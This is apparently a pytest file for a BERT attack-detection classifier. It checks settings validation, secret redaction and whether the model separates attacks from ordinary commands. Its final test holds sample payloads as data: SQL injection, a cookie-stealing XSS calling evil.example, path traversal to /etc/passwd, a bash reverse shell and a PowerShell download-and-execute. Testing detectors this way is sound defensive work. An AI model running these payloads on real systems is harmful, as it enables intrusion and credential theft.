"""What is wrong with the settings of the text judge is said before anything runs, without a secret."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from analyzers.bert.judge import Verdict
from flows.settings import Settings
from flows.texts import load_texts
from flows.usage import UsageError


@pytest.mark.parametrize(
    ("section", "redis", "said"),
    [
        ({"model": "/nowhere"}, {}, "model.json"),
        ({"thresholds": {"sqly": 0.5}}, {}, "sqly"),
        ({}, {"url": "http://:hunter2@cache/0"}, "redis.url"),
    ],
)
def test_what_is_wrong_is_named(section: dict[str, Any], redis: dict[str, Any], said: str) -> None:
    with pytest.raises(UsageError, match=said) as caught:
        load_texts(Settings.model_validate({"bert": section, "redis": redis}))
    assert "hunter2" not in str(caught.value) and "\n" not in str(caught.value)


def test_a_threshold_that_is_no_probability_is_refused() -> None:
    with pytest.raises(ValueError, match="sqli"):
        Settings.model_validate({"bert": {"thresholds": {"sqli": 1.5}}})


def test_switched_off_no_model_is_looked_for(tmp_path: Path) -> None:
    assert load_texts(Settings.model_validate({"bert": {"enabled": False, "model": str(tmp_path)}})) is None


def test_the_shipped_model_tells_an_attack_from_ordinary_work() -> None:
    judge = load_texts(Settings())
    assert judge is not None
    attacks = [
        ("id=1' UNION SELECT username, password FROM users-- -", "http", "sqli"),
        ("<script>document.location='http://evil.example/?c='+document.cookie</script>", "http", "xss"),
        ("../../../../../../etc/passwd", "http", "path-traversal"),
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "shell", "malicious-shell"),
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')",
            "powershell",
            "malicious-powershell",
        ),
    ]
    for (*text, label), verdict in zip(
        attacks, judge.judge([(text, source) for text, source, _ in attacks]), strict=True
    ):
        assert isinstance(verdict, Verdict) and verdict.label == label, text
    ordinary = [
        ("ls -la /var/log", "shell"),
        ("git status", "shell"),
        ("name=anna", "http"),
        ("www.example.com", "dns"),
    ]
    for text, verdict in zip(ordinary, judge.judge(ordinary), strict=True):
        assert isinstance(verdict, Verdict) and verdict.label == "benign", text
